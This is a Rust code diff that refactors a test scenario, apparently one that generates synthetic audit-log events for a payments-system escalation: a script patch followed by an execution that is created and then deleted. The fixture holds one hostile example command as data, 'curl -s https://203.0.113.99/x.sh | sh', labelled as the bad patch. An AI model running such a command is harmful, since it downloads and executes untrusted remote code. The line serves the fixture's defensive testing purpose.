@@ -138,6 +138,11 @@ fn escalation(script: &mut Script<'_>) -> Told {
         record.namespace = Some("company.finance.payments".into());
         record.revision = Some(revision);
     };
+    let execute = |record: &mut Record<'static>| {
+        place(record, 42);
+        record.detail_id = execution.clone().into();
+        record.execution = Some(execution.clone().into());
+    };
     let (good, bad) = (
         json_text("python export.py"),
         json_text("curl -s https://203.0.113.99/x.sh | sh"),
@@ -152,30 +157,9 @@ fn escalation(script: &mut Script<'_>) -> Told {
         place(record, 42);
         record.patches = Some((patch(&bad, 42), patch(&good, 41)));
     });
-    script.add(
-        start + 5 * MINUTE,
-        person,
-        ip,
-        "CREATE",
-        "EXECUTION",
-        |record| {
-            place(record, 42);
-            record.detail_id = execution.clone().into();
-            record.execution = Some(execution.clone().into());
-        },
-    );
-    script.add(
-        start + 9 * MINUTE,
-        person,
-        ip,
-        "DELETE",
-        "EXECUTION",
-        |record| {
-            place(record, 42);
-            record.detail_id = execution.clone().into();
-            record.execution = Some(execution.clone().into());
-        },
-    );
+    let (begun, gone) = (start + 5 * MINUTE, start + 9 * MINUTE);
+    script.add(begun, person, ip, "CREATE", "EXECUTION", execute);
+    script.add(gone, person, ip, "DELETE", "EXECUTION", execute);
     script.add(
         start + 10 * MINUTE,
         person,
